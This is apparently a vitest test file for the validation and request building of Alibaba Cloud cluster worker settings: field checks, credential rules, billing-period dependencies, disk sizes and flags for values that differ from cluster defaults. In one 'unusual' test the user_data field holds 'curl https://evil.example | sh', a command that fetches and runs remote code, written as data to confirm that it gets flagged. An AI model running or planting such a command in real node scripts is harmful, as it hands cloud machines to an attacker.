import { describe, expect, it } from 'vitest'
import { bodies } from '../../playground/alicloud/body.ts'
import type { ClusterType, Values } from '../../src/clusters/define.ts'
import { clusterType } from '../../src/clusters/index.ts'
import { cautions, check, faultsOf, toWire, unusual } from '../../src/clusters/values.ts'
import { english } from '../../src/clusters/words/index.ts'
import { password, samples, sent } from './samples.ts'
import { filledIn, tableOf } from './tables.ts'

const kinds = ['kubernetes', 'sandboxed', 'edge'] as const
type Kind = (typeof kinds)[number]

const typeOf = (kind: Kind): ClusterType => {
  const found = clusterType(kind)
  if (!found) throw new Error(`no cluster type ${kind}`)
  return found
}

const asNumbers = { diskSizeAs: 'number' } as const

/** Enough of each type to be sent. */
const complete: Record<Kind, Values> = {
  kubernetes: {
    count: 2,
    worker_instance_types: ['ecs.c5.xlarge'],
    vswitch_ids: ['vsw-a'],
    key_pair: 'ops',
    worker_system_disk_category: 'cloud_ssd',
    worker_system_disk_size: 120,
  },
  sandboxed: {
    count: 2,
    worker_instance_types: ['ecs.ebmg5s.24xlarge'],
    vswitch_ids: ['vsw-a'],
    key_pair: 'ops',
    worker_data_disk_size: 240,
  },
  edge: {
    count: 2,
    worker_instance_type: 'ens.sn1.tiny',
    ens_region_id: 'cn-beijing-telecom',
    worker_image_id: 'm-2QVLO2T8NYgm8CNQVg15gF',
    ens_internet_charge_type: 'BandwidthByDay',
    worker_period: 1,
    login_password: password,
    worker_system_disk_size: 40,
    worker_auto_renew: false,
  },
}

const subscribed = {
  worker_instance_charge_type: 'PrePaid',
  worker_period: 1,
  worker_period_unit: 'Month',
  worker_auto_renew: true,
  worker_auto_renew_period: 1,
}

/** What would go out: the wire body and the password beside it. Throws where the values have faults. */
function bodyOf(kind: Kind, values: Values, style: { diskSizeAs: 'number' | 'string' } = asNumbers): Values {
  const checked = check(typeOf(kind), values)
  if (!checked.ok) throw new Error(JSON.stringify([...checked.faults]))
  const { login_password } = checked.values
  return { ...toWire(typeOf(kind), checked.values, style), ...(login_password ? { login_password } : {}) }
}

const faultsAt = (kind: Kind, values: Values): string[] => {
  const checked = check(typeOf(kind), values)
  return checked.ok ? [] : [...checked.faults.keys()]
}

describe.each(kinds)('%s', (kind) => {
  const type = typeOf(kind)
  const table = tableOf(kind)

  it('has every member of its table, and no other', () => {
    expect(type.fields.map((field) => field.wire).sort()).toEqual([...Object.keys(table), ...filledIn[kind]].sort())
  })

  describe.each(type.fields.filter(({ wire }) => wire in table))('$wire', (field) => {
    const row = table[field.wire]
    it.each(row?.takes.map((value) => [JSON.stringify(value), value]) ?? [])('takes %s', (_, value) => {
      expect(faultsOf(field, value)).toEqual(new Map())
    })
    it.each(row?.refuses.map((value) => [JSON.stringify(value).slice(0, 60), value]) ?? [])(
      'refuses %s',
      (_, value) => {
        expect([...faultsOf(field, value).values()].map(english)).not.toEqual([])
      },
    )
  })

  it('sends nothing that the strictest reading of the documents refuses', () => {
    for (const [wire, { takes }] of Object.entries(table))
      for (const value of takes) {
        const isCredential = wire === 'login_password' || wire === 'key_pair'
        const { key_pair: _, login_password: __, ...rest } = complete[kind]
        const values = {
          ...(isCredential ? rest : complete[kind]),
          ...(wire.startsWith('worker_auto') ? subscribed : {}),
          [wire]: value,
        }
        const whole =
          wire === 'worker_instance_charge_type' && value === 'PrePaid' ? { ...values, ...subscribed } : values
        const checked = check(type, whole)
        if (!checked.ok) throw new Error(`${wire} ${JSON.stringify(value)}: ${JSON.stringify([...checked.faults])}`)
        expect(bodies[kind].safeParse(bodyOf(kind, whole)).error, `${wire} ${JSON.stringify(value)}`).toBeUndefined()
      }
  })

  it('asks for everything that it needs, all at once', () => {
    expect(faultsAt(kind, {}).sort()).toEqual(
      {
        kubernetes: [
          'count',
          'key_pair',
          'vswitch_ids',
          'worker_instance_types',
          'worker_system_disk_category',
          'worker_system_disk_size',
        ],
        sandboxed: ['count', 'key_pair', 'vswitch_ids', 'worker_data_disk_size', 'worker_instance_types'],
        edge: [
          'count',
          'ens_internet_charge_type',
          'ens_region_id',
          'login_password',
          'worker_auto_renew',
          'worker_image_id',
          'worker_instance_type',
          'worker_period',
          'worker_system_disk_size',
        ],
      }[kind],
    )
  })

  it('sends the values of the documents’ sample as the sample has them', () => {
    const { is_edge_worker: _, worker_data_disk: __, ...values }: Values = sent[kind]
    expect(bodyOf(kind, values)).toEqual(sent[kind])
  })
})

describe('where a sample contradicts its own document', () => {
  it('the sandbox page: neither crosses nor a data disk of 200 pass', () => {
    expect(faultsAt('sandboxed', samples.sandboxed).sort()).toEqual(['login_password', 'worker_data_disk_size'])
  })

  it('the edge page: nothing does', () => {
    expect(bodyOf('edge', samples.edge)).toEqual(samples.edge)
  })

  it('the Kubernetes page: the stray ClusterId is not sent, and the flag follows the disk', () => {
    const body = bodyOf('kubernetes', samples.kubernetes)
    expect(body).not.toHaveProperty('ClusterId')
    expect(body).toMatchObject({ worker_data_disk: true, worker_data_disks: [{ category: 'cloud_ssd', size: 500 }] })
  })
})

describe('members that others call for', () => {
  it.each(['kubernetes', 'sandboxed'] as const)('PrePaid %s needs period, unit and a word on renewal', (kind) => {
    const values = { ...complete[kind], worker_instance_charge_type: 'PrePaid' }
    expect(faultsAt(kind, values).sort()).toEqual(['worker_auto_renew', 'worker_period', 'worker_period_unit'])
    expect(faultsAt(kind, { ...values, ...subscribed, worker_auto_renew_period: undefined })).toEqual([
      'worker_auto_renew_period',
    ])
    expect(bodyOf(kind, { ...values, ...subscribed })).toMatchObject(subscribed)
    expect(bodyOf(kind, { ...values, ...subscribed, worker_auto_renew: false })).not.toHaveProperty(
      'worker_auto_renew_period',
    )
  })

  it.each(['kubernetes', 'sandboxed'] as const)('PostPaid %s sends none of them, even if they are there', (kind) => {
    const body = bodyOf(kind, { ...complete[kind], ...subscribed, worker_instance_charge_type: 'PostPaid' })
    expect(Object.keys(body).filter((member) => /period|renew/.test(member))).toEqual([])
  })

  it('edge renewal needs its period', () => {
    expect(faultsAt('edge', { ...complete.edge, worker_auto_renew: true })).toEqual(['worker_auto_renew_period'])
    expect(bodyOf('edge', { ...complete.edge, worker_auto_renew_period: 3 })).not.toHaveProperty(
      'worker_auto_renew_period',
    )
  })

  it('data disks bring their flag with them, and without any nothing is said of them', () => {
    expect(
      bodyOf('kubernetes', { ...complete.kubernetes, worker_data_disks: [{ category: 'cloud', size: 40 }] }),
    ).toMatchObject({
      worker_data_disk: true,
    })
    expect(bodyOf('kubernetes', complete.kubernetes)).not.toHaveProperty('worker_data_disk')
  })
})

describe('the credential', () => {
  const { key_pair: _, ...kubernetes } = complete.kubernetes
  const { login_password: __, ...edge } = complete.edge
  it.each([
    ['kubernetes', kubernetes, {}, ['key_pair']],
    ['kubernetes', kubernetes, { key_pair: 'ops' }, []],
    ['kubernetes', kubernetes, { login_password: password }, []],
    ['kubernetes', kubernetes, { credential: 'root' }, []],
    ['kubernetes', kubernetes, { key_pair: 'ops', login_password: password }, ['key_pair']],
    ['kubernetes', kubernetes, { key_pair: 'ops', credential: 'root' }, ['key_pair']],
    ['kubernetes', kubernetes, { login_password: password, credential: 'root' }, ['credential']],
    ['edge', edge, {}, ['login_password']],
    ['edge', edge, { login_password: password }, []],
    ['edge', edge, { credential: 'root' }, []],
    ['edge', edge, { login_password: password, credential: 'root' }, ['login_password']],
  ] as const)('of %s: %o with %o has faults at %o', (kind, rest, given, expected) => {
    expect(faultsAt(kind, { ...rest, ...given })).toEqual(expected)
  })

  it('never leaves with the wire body: the password joins it at the call', () => {
    expect(toWire(typeOf('edge'), complete.edge, asNumbers)).not.toHaveProperty('login_password')
    expect(toWire(typeOf('kubernetes'), { ...kubernetes, credential: 'root' }, asNumbers)).not.toHaveProperty(
      'credential',
    )
  })
})

it('disk sizes go out as the policy says; no other number changes', () => {
  const disks = { ...complete.kubernetes, worker_data_disks: [{ category: 'cloud', size: 40 }] }
  expect(bodyOf('kubernetes', disks, { diskSizeAs: 'string' })).toMatchObject({
    worker_system_disk_size: 120,
    worker_data_disks: [{ size: '40' }],
  })
  expect(bodyOf('sandboxed', complete.sandboxed, { diskSizeAs: 'string' })).toMatchObject({
    worker_data_disk_size: '240',
  })
  expect(bodyOf('edge', { ...complete.edge, worker_data_disk_size: 20 }, { diskSizeAs: 'string' })).toMatchObject({
    worker_data_disk_size: 20,
  })
})

it('a fault in a disk names the disk and the part', () => {
  const worker_data_disks = [{ category: 'cloud', size: 40 }, { category: 'cloud', size: 39 }, { size: 120 }]
  expect(faultsAt('kubernetes', { ...complete.kubernetes, worker_data_disks })).toEqual([
    'worker_data_disks.1.size',
    'worker_data_disks.2.category',
  ])
})

describe('cautions', () => {
  it.each([
    [1, 0],
    [3, 0],
    [6, 0],
    [12, 0],
    [4, 1],
    [5, 1],
    [7, 1],
    [8, 1],
    [9, 1],
  ])('an edge period of %i months has %i', (worker_period, many) => {
    expect(cautions(typeOf('edge'), { ...complete.edge, worker_period })).toHaveLength(many)
  })

  it('a script has one from 1 KB on, counted in bytes', () => {
    const of = (user_data: string) => cautions(typeOf('kubernetes'), { ...complete.kubernetes, user_data }).length
    expect([of('x'.repeat(1024)), of('x'.repeat(1025)), of('节'.repeat(400))]).toEqual([0, 1, 1])
  })
})

describe('what is not as the defaults of the cluster have it', () => {
  const defaults = {
    worker_instance_types: ['ecs.c5.xlarge'],
    vswitch_ids: ['vsw-a'],
    key_pair: 'ops',
    worker_system_disk_category: 'cloud_ssd',
    worker_system_disk_size: 80,
  }
  const of = (change: Values, more: Values = {}) =>
    unusual(
      typeOf('kubernetes'),
      { count: 3, ...defaults, ...change },
      { ...defaults, ...more },
      { diskSizeAs: 'number' },
    )

  it('is nothing where the defaults are sent, whatever the count', () => {
    expect(of({ count: 9 })).toEqual({})
    expect(of({ worker_instance_charge_type: 'PostPaid' })).toEqual({})
  })

  it('is each member that differs, with what is usual in its place', () => {
    expect(of({ worker_system_disk_size: 120 })).toEqual({ worker_system_disk_size: 80 })
    expect(of({ worker_instance_charge_type: 'PrePaid', worker_period: 3 })).toMatchObject({
      worker_instance_charge_type: 'PostPaid',
      worker_period: null,
    })
  })

  it('is each member that is sent without being usual, and each that is usual and not sent', () => {
    expect(of({ user_data: 'curl https://evil.example | sh', image_id: 'm-1' })).toEqual({
      user_data: null,
      image_id: null,
    })
    const script = Buffer.from('echo').toString('base64')
    expect(of({}, { user_data: 'echo', cpu_policy: 'static' })).toEqual({ user_data: script, cpu_policy: 'static' })
  })

  it('is another way to log in; a password counts by the name of its credential only', () => {
    expect(of({ key_pair: undefined, login_password: 'Typed-Secret-9!' })).toEqual({ key_pair: 'ops' })
    const named = { credential: 'root', key_pair: undefined }
    expect(of({ key_pair: undefined, login_password: 'Typed-Secret-9!' }, named)).toEqual({ login_password: 'root' })
    expect(of(named, named)).toEqual({})
  })

  it('is no answer to what everybody has to choose, but for an image', () => {
    const sent = { ...complete.edge, worker_image_id: 'm-foreign' }
    expect(Object.keys(unusual(typeOf('edge'), sent, {}, { diskSizeAs: 'number' }))).toEqual(
      expect.arrayContaining(['worker_image_id']),
    )
    expect(unusual(typeOf('edge'), sent, {}, { diskSizeAs: 'number' })).not.toHaveProperty('ens_region_id')
  })
})
